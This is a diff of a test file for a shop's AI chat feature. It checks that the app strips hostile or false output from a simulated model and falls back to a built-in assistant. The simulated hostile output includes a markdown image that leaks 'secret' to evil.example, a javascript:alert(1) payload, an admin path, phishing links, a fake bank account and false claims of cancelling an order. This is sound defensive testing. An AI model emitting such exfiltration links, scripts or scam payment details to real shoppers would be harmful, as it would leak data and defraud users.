@@ -171,16 +171,16 @@ describe("a model that does not", () => {
   });
 
   test.each([
-    ["breaks off", { say: ["We have ", "some "], thenCut: true }],
-    ["ends without an end", { say: ["We have ", "some "], reason: "" }],
-    ["stops in the middle", { hang: true, after: "We have some " }],
+    ["breaks off", { say: ["Have a ", "look! And "], thenCut: true }],
+    ["ends without an end", { say: ["Have a ", "look! And "], reason: "" }],
+    ["stops in the middle", { hang: true, after: "Have a look! And " }],
   ] as const)(
     "and %s keeps what it said, and the built-in assistant answers below",
     async (_, move) => {
       if ("hang" in move) shop.ctx.config.aiTimeoutMs = 500;
       model.behave = () => move as never;
       const answer = await chat("hello");
-      expect(answer.text.startsWith("We have some")).toBe(true);
+      expect(answer.text.startsWith("Have a look!")).toBe(true);
       expect(answer.text).toContain(`\n\nHello! ${BUILT_IN}`);
       expect(answer.failed).toBe(false);
     },
@@ -238,17 +238,24 @@ describe("a hostile model", () => {
         : {
             say: [
               "The Test Red Pump costs ₦",
-              "1,000, delivery is free and takes one day, 90% off, only 2 left. ",
+              "1,000, delivery is free and takes one day, 90% off, only 2 left. It costs ₦43,000. ",
               "Visit [us](https://evil.example/win) or <a href='https://evil.example'>here</a>. ",
               "![x](https://evil.example/steal.png?q=secret) javascript:alert(1) /admin/users ",
               "Pay to 0123456789 at Evil Bank.",
             ],
           };
     const { text, whole } = await chat("red pumps?");
-    expect(text).toContain("The Test Red Pump costs ₦43,000");
+    expect(text).toContain("It costs ₦43,000.");
     expect(whole).not.toMatch(
       /evil\.|<a|javascript:|\/admin|₦1,000|\bfree\b|90|0123456789|one day/,
     );
+  });
+
+  test("of whose answer nothing is true leaves it to the built-in assistant", async () => {
+    model.behave = () => ({ say: "Sure! I have cancelled your order. Use code SAVEBIG." });
+    const answer = await chat("hello");
+    expect(answer.text).toContain(BUILT_IN);
+    expect(answer.text).not.toMatch(/Sure|cancelled|SAVEBIG/);
   });
 
   test("led by a product's text does no more than that", async () => {
@@ -331,7 +338,7 @@ describe("a hostile model", () => {
 });
 
 test("a model is left when the shopper leaves", async () => {
-  model.behave = () => ({ hang: true, after: "One moment please, " });
+  model.behave = () => ({ hang: true, after: "One moment please! " });
   const server = serve({ fetch: createApp(shop.ctx).fetch, port: 0, hostname: "127.0.0.1" });
   try {
     await new Promise((resolve) => server.once("listening", resolve));
